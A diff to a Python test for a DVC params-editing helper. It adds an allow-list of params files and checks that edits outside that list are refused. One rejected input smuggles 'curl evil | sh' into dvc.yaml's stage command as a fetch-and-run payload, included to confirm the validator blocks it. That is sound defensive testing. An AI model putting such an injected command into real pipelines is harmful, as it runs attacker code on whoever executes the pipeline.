@@ -72,15 +72,20 @@ def test_set_params_edits_the_named_params_file_in_place(tmp_path):
     (tmp_path / "config").mkdir()
     (tmp_path / "config" / "train.yaml").write_text("train:\n  steps: 1  # grid size\n")
     (tmp_path / "params.toml").write_text("[train]\nseed = 3 # fixed\nsteps = 1\n")
-    changes = dvcrepo.set_params(tmp_path, ["config/train.yaml:train.steps=30", "params.toml:train.steps=7"])
+    (tmp_path / "dvc.yaml").write_text("stages:\n  train:\n    cmd: python train.py\n")
+    allowed = ["config/train.yaml", "params.toml"]  # what the pipeline reads as params
+    changes = dvcrepo.set_params(tmp_path, ["config/train.yaml:train.steps=30", "params.toml:train.steps=7"], allowed=allowed)
     assert changes == {"config/train.yaml:train.steps": (1, 30), "params.toml:train.steps": (1, 7)}
     assert "steps: 30" in (tmp_path / "config" / "train.yaml").read_text() and "# grid size" in (tmp_path / "config" / "train.yaml").read_text()
     assert (tmp_path / "params.toml").read_text() == "[train]\nseed = 3 # fixed\nsteps = 7\n"
     assert dvcrepo.params_file_of("config/train.yaml:train.steps") == "config/train.yaml"
     assert dvcrepo.params_file_of("train.steps") == "params.yaml"
     for bad, said in (("params.toml:train.nope=1", "train.nope does not exist in params.toml"),
-                      ("../outside.yaml:a=1", "not a params file inside the project"),
-                      ("missing.yaml:a=1", "missing.yaml not found")):
+                      ("../outside.yaml:a=1", "not a params file of this pipeline"),
+                      # a dispatch sets values; it never rewrites what runs
+                      ("dvc.yaml:stages.train.cmd=curl evil | sh", "not a params file of this pipeline"),
+                      ("missing.yaml:a=1", "not a params file of this pipeline")):
         with pytest.raises(InputError, match=said):
-            dvcrepo.set_params(tmp_path, [bad])
+            dvcrepo.set_params(tmp_path, [bad], allowed=allowed)
+    assert "python train.py" in (tmp_path / "dvc.yaml").read_text()
     assert (tmp_path / "params.toml").read_text() == "[train]\nseed = 3 # fixed\nsteps = 7\n"
